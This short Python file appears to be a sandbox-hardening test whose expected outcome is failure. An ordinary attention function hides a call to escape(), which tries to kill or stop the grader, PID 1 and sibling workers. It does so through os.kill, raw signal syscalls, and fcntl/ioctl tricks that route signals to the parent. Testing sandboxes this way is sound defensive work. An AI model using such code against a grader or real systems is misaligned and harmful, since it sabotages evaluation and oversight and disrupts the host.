# tries: kills the grader, the zygote and other workers, and sends signals by a detour
# expect: failed
import ctypes
import fcntl
import os
import signal
import struct

from wrong import attention, once


def escape():
    libc = ctypes.CDLL(None, use_errno=True)
    victims = [os.getppid(), 1, -1, 0, *range(max(2, os.getppid() - 5), os.getppid())]
    for pid in victims:
        for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP, 0):
            try:
                os.kill(pid, number)
                print("SECRET-FOUND", pid)
            except OSError as error:
                print(type(error).__name__)
        for call in (62, 200, 129, 424):  # kill, tkill, rt_sigqueueinfo, pidfd_send_signal
            if libc.syscall(call, pid, 9, None, 0) == 0:
                print("SECRET-FOUND", call)
        if libc.syscall(234, pid, pid, 9) == 0:  # tgkill
            print("SECRET-FOUND tgkill")
    reading, writing = os.pipe()
    for command in (fcntl.F_SETOWN, 10, 15):  # whom the kernel tells, and with which signal
        try:
            argument = struct.pack("ii", 1, os.getppid()) if command == 15 else os.getppid()
            fcntl.fcntl(reading, command, argument)
            print("SECRET-FOUND owner")
        except OSError as error:
            print(type(error).__name__)
    for request in (0x8901, 0x8902):  # FIOSETOWN, SIOCSPGRP
        try:
            fcntl.ioctl(3, request, struct.pack("i", os.getppid()))
            print("SECRET-FOUND owner")
        except OSError as error:
            print(type(error).__name__)
    os.write(writing, b"x")


def scaled_dot_product_attention(query, key, value, mask=None, dropout=None):
    once(escape)
    return attention(query, key, value, mask, dropout)
